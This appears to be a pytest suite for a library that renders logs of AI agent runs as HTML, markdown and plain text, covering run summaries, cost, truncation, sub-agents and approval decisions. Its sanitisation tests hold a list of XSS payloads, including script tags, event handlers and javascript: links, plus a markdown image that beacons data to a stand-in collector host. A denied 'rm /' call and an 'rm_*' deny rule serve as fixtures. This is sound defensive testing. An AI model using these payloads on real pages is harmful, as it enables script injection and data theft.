"""The static picture, byte for byte as it is drawn in the design."""

import re
from html.parser import HTMLParser

import pytest
from a2ui.told import Told
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bread_nb import crumbs as c
from bread_nb.a2ui.picture import picture

OPUS = "anthropic:claude-opus-4-8"


def finished() -> Told:
    told = Told("analyst", model=OPUS).start(steps=20)
    told.used(700, 0.0050).call("1", "describe", frame="sales")
    told.done("1", "describe", "mean 412.0")
    told.used(800, 0.0050).call("2", "plot", column="flower")
    told.failed("2", "plot", "no column 'flower'. Did you mean 'flour'?")
    told.call("3", "plot", column="flour")
    told.done("3", "plot", "saved plot.png, 640 x 480", 1100)
    told.say(c.FileGenerated, uri="blob:1", mime_type="image/png", name="plot.png")
    text = "Flour use rose in every month except **March**."
    return told.text(text[:9]).text(text[9:]).used(810, 0.0064).end(text)


def test_a_finished_run_as_html():
    assert picture(finished().crumbs).html == (
        "<p><strong>analyst</strong> finished · anthropic:claude-opus-4-8 · 3 turns · "
        "3 calls, 1 failed · 2,310 tokens · $0.0164</p>\n"
        '<details><summary><code>describe</code> frame="sales": done</summary>'
        "<pre>mean 412.0</pre></details>\n"
        '<details><summary><code>plot</code> column="flower": failed</summary>'
        "<pre>no column 'flower'. Did you mean 'flour'?</pre></details>\n"
        '<details><summary><code>plot</code> column="flour": done</summary>'
        "<pre>saved plot.png, 640 x 480</pre></details>\n"
        "<p>File: plot.png (image/png)</p>\n"
        "<p>Flour use rose in every month except <strong>March</strong>.</p>"
    )


def test_a_finished_run_as_markdown():
    assert picture(finished().crumbs).markdown == (
        "**analyst** finished · anthropic:claude-opus-4-8 · 3 turns · "
        "3 calls, 1 failed · 2,310 tokens · $0.0164\n"
        "\n"
        '- `describe` frame="sales": done\n'
        "- `plot` column=\"flower\": failed: no column 'flower'. "
        "Did you mean 'flour'?\n"
        '- `plot` column="flour": done\n'
        "\n"
        "File: plot.png (image/png)\n"
        "\n"
        "Flour use rose in every month except **March**."
    )


def test_a_finished_run_as_plain_text():
    assert picture(finished().crumbs).plain == (
        "analyst finished · anthropic:claude-opus-4-8 · 3 turns · "
        "3 calls, 1 failed · 2,310 tokens · $0.0164\n"
        '  describe frame="sales": done\n'
        "  plot column=\"flower\": failed: no column 'flower'. "
        "Did you mean 'flour'?\n"
        '  plot column="flour": done\n'
        "  file plot.png (image/png)\n"
        "Flour use rose in every month except **March**."
    )


def waiting() -> Told:
    body = "# Rye for beginners\n" + "\n".join(f"line {n}" for n in range(311))
    told = Told("publisher", model=OPUS).start()
    told.used(None, 0.0020).call("1", "draft", topic="rye").done("1", "draft")
    told.text("The post is ready. I will publish it to the blog now.")
    told.used(None, 0.0020)
    return told.ask("2", "publish", title="Rye for beginners", body=body)


def test_a_waiting_run_as_html_is_folded_to_one_line():
    assert picture(waiting().crumbs).html == (
        "<details><summary><strong>publisher</strong> waits for a person: "
        '<code>publish</code> title="Rye for beginners", '
        'body="# Rye for beginners⏎line 0⏎line 1⏎line 2⏎l…". '
        "Answer with <code>%load_ext bread_nb</code>, then "
        "<code>%bread pending</code></summary>\n"
        "<p>anthropic:claude-opus-4-8 · 2 turns · 1 call done · $0.0040</p>\n"
        "<p>The post is ready. I will publish it to the blog now.</p>\n"
        "<pre>publish\n"
        '  title: "Rye for beginners"\n'
        '  body:  "# Rye for beginners …" (312 lines)</pre></details>'
    )


def test_a_waiting_run_as_plain_text_and_markdown_is_the_same_unfolded():
    pictured = picture(waiting().crumbs)
    assert pictured.plain == (
        'publisher waits for a person: publish title="Rye for beginners", '
        'body="# Rye for beginners⏎line 0⏎line 1⏎line 2⏎l…". '
        "Answer with %load_ext bread_nb, then %bread pending\n"
        "anthropic:claude-opus-4-8 · 2 turns · 1 call done · $0.0040\n"
        "The post is ready. I will publish it to the blog now."
    )
    assert pictured.markdown == (
        '**publisher** waits for a person: `publish` title="Rye for beginners", '
        'body="# Rye for beginners⏎line 0⏎line 1⏎line 2⏎l…". '
        "Answer with `%load_ext bread_nb`, then `%bread pending`\n"
        "\n"
        "anthropic:claude-opus-4-8 · 2 turns · 1 call done · $0.0040\n"
        "\n"
        "The post is ready. I will publish it to the blog now.\n"
        "\n"
        "```text\n"
        "publish\n"
        '  title: "Rye for beginners"\n'
        '  body:  "# Rye for beginners …" (312 lines)\n'
        "```"
    )


def head_and_note(told: Told) -> list[str]:
    return picture(told.crumbs).plain.split("\n")[:2]


def calls(told: Told, number: int) -> Told:
    for n in range(number):
        told.call(f"c{n}", "work", n=n).done(f"c{n}", "work")
    return told


def test_a_run_stopped_at_its_budget():
    told = Told("triage", model="openai:gpt-5").start()
    for _ in range(3):
        calls(told.used(None, 0.25), 8)
    calls(told.used(None, 0.27), 10)
    told.say(c.GateHalted, rule="budget", spent=1.02, cap=1.0)
    note = (
        "Not done: 16 of 50 tickets. Go on with a larger budget, "
        "or start again with fewer tickets."
    )
    told.end("", stop_reason="halt:budget", note=note)
    assert head_and_note(told) == [
        "triage stopped: budget of $1.00 reached · openai:gpt-5 · 4 turns · "
        "34 calls · $1.0200",
        note,
    ]


def test_a_run_stopped_by_a_person():
    told = Told("triage", model="openai:gpt-5").start()
    calls(told.used(None, 0.1), 2)
    calls(told.used(None, 0.11), 2).call("last", "work", n=9)
    told.fail("RUN_CANCELLED", "run cancelled")
    assert head_and_note(told) == [
        "triage stopped by you · openai:gpt-5 · 2 turns · 5 calls, 1 cut short · "
        "$0.2100",
        "The history is whole; the next message in its session goes on from here.",
    ]


def test_a_run_that_failed_says_how_often_it_tried():
    told = Told("writer", model=OPUS).start()
    lost = c.ErrorInfo("MODEL_UNREACHABLE", "api.anthropic.com did not answer.")
    for attempt in (1, 2):
        told.say(c.ModelRetry, attempt=attempt, attempts=2, delay_ms=4000, error=lost)
    told.fail(
        "MODEL_UNREACHABLE",
        "api.anthropic.com did not answer.",
        "check the network, or BREAD_MODE=replay.",
    )
    assert head_and_note(told) == [
        "writer failed: MODEL_UNREACHABLE · anthropic:claude-opus-4-8 · 1 turn · "
        "0 calls",
        "api.anthropic.com did not answer (3 tries). "
        "Check the network, or BREAD_MODE=replay.",
    ]


def interrupted() -> Told:
    told = Told("baker", model="openai:gpt-5").start()
    calls(told.used(None, 0.05), 2)
    told.used(None, 0.03).call("b", "weigh", kg=40).done("b", "weigh")
    told.used(None, 0.03).call("x", "order", kg=40)
    return told.ask("x", "order", "outcome", kg=40)


def test_an_interrupted_run_names_the_call_nobody_knows_about():
    assert head_and_note(interrupted()) == [
        "baker was interrupted · openai:gpt-5 · 3 turns · "
        "4 calls, 1 of unknown outcome · $0.1100",
        "The kernel ended during order kg=40. "
        "Answer with %load_ext bread_nb, then %bread pending",
    ]


def test_the_markdown_of_an_end_is_the_text_with_the_name_in_bold():
    pictured = picture(interrupted().crumbs)
    head, note = pictured.plain.split("\n")[:2]
    bold = head.replace("baker", "**baker**", 1)
    assert pictured.markdown.startswith(f"{bold}\n\n{note}\n\n- `work` n=0: done\n")
    strong = head.replace("baker", "<strong>baker</strong>", 1)
    assert pictured.html.startswith(f"<p>{strong}</p>\n<p>{note}</p>\n<details>")


ALLOWED = {"p", "pre", "code", "strong", "em", "a", "ul", "ol", "li", "br", "hr"}
ALLOWED |= {"table", "thead", "tbody", "tr", "th", "td", "details", "summary"}
ALLOWED |= {"blockquote", "del", "ins", "h4", "h5", "h6"}
HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>\n"
    "[a](javascript:alert(4)) [b](JaVaScRiPt:alert(5)) [c](&#106;avascript:alert(6)) "
    "<javascript:alert(7)> [d](data:text/html,x) [e](vbscript:x) [f](/files/x) "
    "[g](//host/x)\n\n"
    "![i](https://collector.example/p?d=CANARY) ![](https://collector.example/q)\n\n"
    "[ref] ![ref]\n\n[ref]: javascript:alert(8)\n\n"
    "<details open><summary>x</summary></details>\n\n"
    "```html\n<script>alert(9)</script>\n"
)


class Markup(HTMLParser):
    """What a browser would find in a picture."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


def markup(html: str) -> Markup:
    found = Markup()
    found.feed(html)
    found.close()
    return found


def fears(html: str) -> list[str]:
    found = markup(html)
    bad = sorted(found.tags - ALLOWED) + sorted(
        found.attributes - {"href", "open", "dir"}
    )
    return bad + [
        link for link in found.links if not re.match(r"(https?|mailto):", link)
    ]


def rendered(markdown: str) -> str:
    """The markdown by a renderer that allows everything it can."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda _: True
    return parser.render(markdown)


def hostile() -> Told:
    told = Told(HOSTILE[:40], model="<b>x</b>:y").start()
    told.call("1", "<img src=x>", **{"<script>": HOSTILE}).done(
        "1", "<img src=x>", HOSTILE
    )
    told.call("2", "b", a=HOSTILE).failed("2", "b", HOSTILE)
    told.call("3", "c").failed("3", "c", "x", "DENIED")
    told.say(c.FileGenerated, uri=HOSTILE, mime_type=HOSTILE, name=HOSTILE)
    return told


def test_nothing_a_model_or_a_tool_wrote_is_markup():
    for told in (
        hostile().text(HOSTILE).end(HOSTILE),
        hostile().text(HOSTILE).ask("4", "p", x=HOSTILE),
        hostile().text(HOSTILE).end({"x": HOSTILE}),
        hostile().fail(HOSTILE, HOSTILE, HOSTILE),
        hostile().end("", stop_reason=HOSTILE, note=HOSTILE),
        hostile().ask("4", "p", "outcome", x=HOSTILE),
    ):
        pictured = picture(told.crumbs)
        assert fears(pictured.html) == []
        page = rendered(pictured.markdown)
        found = markup(page)
        assert found.tags & {"script", "img", "svg", "iframe", "details"} == set()
        assert [a for a in found.attributes if a.startswith("on")] == []
        assert [x for x in found.links if not re.match(r"(https?|mailto):", x)] == []


def test_an_image_is_the_text_of_its_address():
    told = Told().start().text("See ![a cat](https://collector.example/p?d=CANARY).")
    pictured = picture(told.end().crumbs)
    assert pictured.html.endswith(
        "<p>See a cat (https://collector.example/p?d=CANARY).</p>"
    )
    assert "<img" not in rendered(pictured.markdown)


def test_what_is_harmless_in_markdown_stays_as_the_model_wrote_it():
    good = "[a](https://a.b) and `<b>` and a < b\n\n```html\n<script>x</script>\n```"
    told = Told().start().text(f"{good}\n\nBad: <img src=x> `<i>`")
    assert picture(told.end().crumbs).markdown.endswith(
        f"{good}\n\nBad: &lt;img src=x> `<i>`"
    )


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "`",
        "```\n",
        "![",
        "[",
        "](",
        ")",
        "x",
        "\n",
        "\n\n",
        "|",
        "- ",
        "$",
        "javascript:",
        "https://a.b",
        "<script>",
        "<a href=",
        "]: ",
        "*",
        "_",
        "#",
        "&lt;",
        "\\",
        "~~",
        "    ",
        ">",
        "1. ",
        "\x00",
        "\u202e",
        "'",
        '"',
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_text_of_a_model_becomes_markup(text):
    told = Told().start().call("1", "x", a=text).done("1", "x", text).text(text)
    pictured = picture(told.end().crumbs)
    assert fears(pictured.html) == []
    found = markup(rendered(pictured.markdown))
    assert found.tags & {"script", "img"} == set()
    assert [x for x in found.links if not re.match(r"(https?|mailto):", x)] == []


@given(st.lists(PIECES, max_size=40).map("".join))
def test_only_pre_holds_line_breaks(text):
    html = picture(Told().start().text(text).end().crumbs).html
    depth = 0
    for line in html.split("\n"):
        assert depth > 0 or line.startswith("<"), html
        depth += line.count("<pre>") - line.count("</pre>")


def test_the_markdown_of_a_model_becomes_html_from_h4_on():
    text = "# One\n\n## Two\n\n### Three\n\n- a\n- b\n\n> q\n\n~~x~~ `y`\n\n"
    text += "| a |\n|---|\n| 1 |\n\n---"
    html = picture(Told().start().text(text).end().crumbs).html
    assert html.split("\n")[1:] == [
        "<h4>One</h4>",
        "<h5>Two</h5>",
        "<h6>Three</h6>",
        "<ul>",
        "<li>a</li>",
        "<li>b</li>",
        "</ul>",
        "<blockquote>",
        "<p>q</p>",
        "</blockquote>",
        "<p><del>x</del> <code>y</code></p>",
        "<table>",
        "<thead>",
        "<tr><th>a</th></tr>",
        "</thead>",
        "<tbody>",
        "<tr><td>1</td></tr>",
        "</tbody>",
        "</table>",
        "<hr>",
    ]


def test_changing_one_word_changes_one_line():
    def lines(word: str) -> list[str]:
        text = f"One.\n\nTwo {word}\ngoes on.\n\nThree."
        return picture(Told().start().text(text).end().crumbs).html.split("\n")

    pairs = zip(lines("a"), lines("b"), strict=True)
    assert sum(first != second for first, second in pairs) == 1


def test_amounts_of_money_are_no_mathematics():
    text = "It costs $5 or $6, and $x^2$ is a formula."
    html = picture(Told().start().text(text).end().crumbs).html
    assert "<p>It costs $5 or <em></em>$6, and <em></em>$x^2$ is a formula.</p>" in html


def test_decisions_are_in_the_picture_and_who_made_them_is_not():
    told = Told().start()
    told.ask("1", "publish", title="Rye")
    told.answer("1", {"approved": True, "args": {"title": "Wheat"}})
    told.call("1", "publish", title="Wheat").done("1", "publish", "sent")
    told.ask("2", "rm", path="/").answer("2", {"approved": False, "reason": "too long"})
    told.say(
        c.GateDecided,
        tool_name="tool_rm_all",
        decision="deny",
        rule="deny tool:rm_*",
        tool_call_id="3",
    ).failed("3", "rm_all", "no", "DENIED")
    told.ask("4", "human_approve", "input", question="Sure?")
    told.answer("4", {"answer": "yes"}, "input")
    pictured = picture(told.text("Done.").end("Done.").crumbs)
    assert pictured.plain.split("\n")[1:] == [
        '  publish title="Wheat": approved with changes, done',
        '  rm path="/": denied by you: too long',
        "  rm_all: denied by rule: deny tool:rm_*",
        '  approve question="Sure?": answered',
        "Done.",
    ]
    assert "<del>title: Rye</del>\n<ins>title: Wheat</ins>" in pictured.html


@pytest.mark.parametrize(
    ("reason", "told"),
    [
        ("not on\nSunday", "weekday: not on Sunday"),
        ("The rule weekday failed: KeyError", "weekday: The rule weekday failed: KeyE"),
        ("tool:rm is denied by the rule weekday.", "weekday\n"),
        (None, "weekday\n"),
    ],
)
def test_a_rule_that_refused_is_told_with_its_reason(reason: str | None, told: str):
    names = {"tool_name": "tool_rm", "tool_call_id": "1", "rule": "weekday"}
    refused = Told().start()
    refused.say(c.GateDecided, decision="deny", reason=reason, **names)
    refused.failed("1", "rm", "no", "DENIED").text("No.").end("No.")
    assert f"rm: denied by rule: {told}" in picture(refused.crumbs).plain


def test_a_waiting_run_still_tells_its_decisions_and_failures():
    told = Told("publisher").start().call("1", "draft").done("1", "draft")
    told.call("2", "check").failed("2", "check", "No net.")
    told.ask("3", "publish", a=1).ask("4", "publish", a=2)
    pictured = picture(told.crumbs)
    assert pictured.plain.split("\n") == [
        "publisher waits for a person: publish a=1 and 1 more. "
        "Answer with %load_ext bread_nb, then %bread pending",
        "1 turn · 1 call done, 1 failed",
        "  check: failed: No net.",
    ]
    assert pictured.html.endswith(
        "<pre>publish\n  a: 1</pre>\n<pre>publish\n  a: 2</pre></details>"
    )


def test_the_picture_is_the_same_however_the_run_was_timed_and_named():
    def drawn(run: str, at: int) -> object:
        wire = [c.to_wire(crumb) for crumb in finished().crumbs]
        for crumb in wire:
            crumb.update(runId=run, sessionId=run, timestamp=at, seq=at)
            for key in ("durationMs", "toolCallId", "uri"):
                if key in crumb:
                    crumb[key] = at if key == "durationMs" else f"{crumb[key]}-{at}"
            at += 17
        for key in ("toolCallId",):
            for crumb in wire:
                if key in crumb:
                    crumb[key] = str(crumb[key]).partition("-")[0] + run
        return picture([c.from_wire(crumb) for crumb in wire])

    assert drawn("a", 1) == drawn("b", 99_999)
    assert "99" not in drawn("b", 99_999).html  # pyright: ignore[reportAttributeAccessIssue]


def test_a_long_answer_keeps_its_head_and_its_tail():
    text = "a" * 150_000 + "b" * 1_204_113 + "c" * 20_000
    pictured = picture(Told().start().text(text).end().crumbs)
    note = "… 1,204,113 characters left out; all of it is in run.text"
    assert f"a</p>\n<p>{note}</p>\n<p>c" in pictured.html
    assert f"a\n\n{note}\n\nc" in pictured.markdown
    assert len(pictured.plain) <= 4000
    assert pictured.plain.endswith("all of it is in run.text")
    whole = "d" * 200_000
    assert whole in picture(Told().start().text(whole).end().crumbs).html


def test_a_long_value_is_cut_at_20_lines_or_2_kb():
    told = Told().start().call("1", "read").done("1", "read", "x\n" * 500)
    told.call("2", "read").done("2", "read", "y" * 5000)
    html = picture(told.end("ok").crumbs).html
    assert html.count("x\n") == 20
    assert "x\n… 480 more lines</pre>" in html
    assert "y" * 2000 + "\n… 3,000 characters left out …</pre>" in html
    assert "y" * 2001 not in html


def test_all_calls_together_take_64_kb():
    told = Told().start()
    for n in range(200):
        told.call(f"{n}", "read", n=n).done(f"{n}", "read", "z" * 1900)
    pictured = picture(told.end("ok").crumbs)
    assert len(pictured.html) < 66_000
    assert re.search(r"<p>1\d\d more calls</p>\n<p>ok</p>$", pictured.html)
    assert "200 calls" in pictured.plain
    assert len(pictured.plain) < 4000


def test_secrets_are_in_no_picture():
    told = Told().start().call("1", "login", api_key="CANARY", user="ann")
    told.done("1", "login", {"session_token": "CANARY"}).ask(
        "2", "x", password="CANARY"
    )
    assert "CANARY" not in str(picture(told.crumbs))


def test_fences_grow_longer_than_any_fence_inside():
    pictured = picture(Told().start().end({"code": "````py\nx\n````"}).crumbs)
    assert pictured.markdown.rpartition("\n")[2] == "`````"


def test_a_fence_that_was_cut_off_is_closed_in_markdown():
    told = Told().start().text("```py\nx = 1").fail("RUN_CANCELLED", "x")
    assert picture(told.crumbs).markdown.endswith("```py\nx = 1\n```")


def test_json_as_output_is_shown_as_data():
    told = Told().start().text('{"n":1}').end({"n": 1})
    assert picture(told.crumbs).html.endswith('<pre>{"n": 1}</pre>')


def test_a_local_model_takes_no_charge():
    told = Told(model="local:smollm2-135m").start().used(812, 0.0).end("Hi.")
    assert picture(told.crumbs).plain.split("\n")[0] == (
        "analyst finished · local:smollm2-135m · 1 turn · 0 calls · 812 tokens · "
        "no charge (local)"
    )


def test_what_is_unknown_is_left_out():
    told = Told(model="openai:gpt-5").start().used().end("Hi.")
    assert picture(told.crumbs).plain.split("\n")[0] == (
        "analyst finished · openai:gpt-5 · 1 turn · 0 calls"
    )


def test_a_cost_known_in_part_is_never_shown_as_whole():
    told = Told(model="openai:gpt-5").start().used(10, 0.0121).used(20).end("Hi.")
    assert picture(told.crumbs).plain.split("\n")[0] == (
        "analyst finished · openai:gpt-5 · 2 turns · 0 calls · 30 tokens · "
        "at least $0.0121"
    )


def test_a_try_that_was_cut_is_no_turn_and_is_paid_for():
    told = Told(model="openai:gpt-5").start()
    told.used(10, 0.0121, kind="cut", partial=True, cost_source="rates")
    told.used(20, 0.01, cost_source="rates").end("Hi.")
    assert picture(told.crumbs).plain.split("\n")[0] == (
        "analyst finished · openai:gpt-5 · 1 turn · 0 calls · 30 tokens · "
        "at least $0.0221"
    )


def tree(agents: int, failing: int = -1) -> Told:
    told = Told("lead").start()
    for n in range(agents):
        child = {"run_id": f"child-{n}", "agent_id": "worker"}
        told.say(c.SubagentStart, **child, parent_agent_id="lead", subagent_id="worker")
        told.say(
            c.ToolCalled,
            **child,
            tool_call_id="x",
            tool_name="tool_read",
            args={"n": n},
        )
        told.say(
            c.ToolReturned,
            **child,
            tool_call_id="x",
            tool_name="tool_read",
            result=n,
            duration_ms=1,
        )
        if n == failing:
            told.say(c.RunFailed, **child, error=c.ErrorInfo("X", "No ticket."))
        else:
            told.say(c.RunEnd, **child, output="ok", duration_ms=1)
    return told.end("Done.")


def test_sub_agents_nest_in_every_form():
    pictured = picture(tree(1).crumbs)
    assert pictured.html.split("\n")[1:-1] == [
        "<details><summary><strong>worker</strong> finished · 1 call</summary>",
        "<details><summary><code>read</code> n=0: done</summary><pre>0</pre></details>",
        "<pre>ok</pre>",
        "</details>",
    ]
    assert "- **worker** finished · 1 call\n  - `read` n=0: done\n" in pictured.markdown
    assert "  worker finished · 1 call\n    read n=0: done\n" in pictured.plain


def test_many_sub_agents_of_one_name_are_counted_and_failures_listed():
    plain = picture(tree(50, failing=22).crumbs).plain
    assert plain.split("\n")[1:] == [
        "  worker × 50: 49 finished, 1 failed",
        "    worker failed: X · 1 call: No ticket.",
        "      read n=22: done",
        "Done.",
    ]
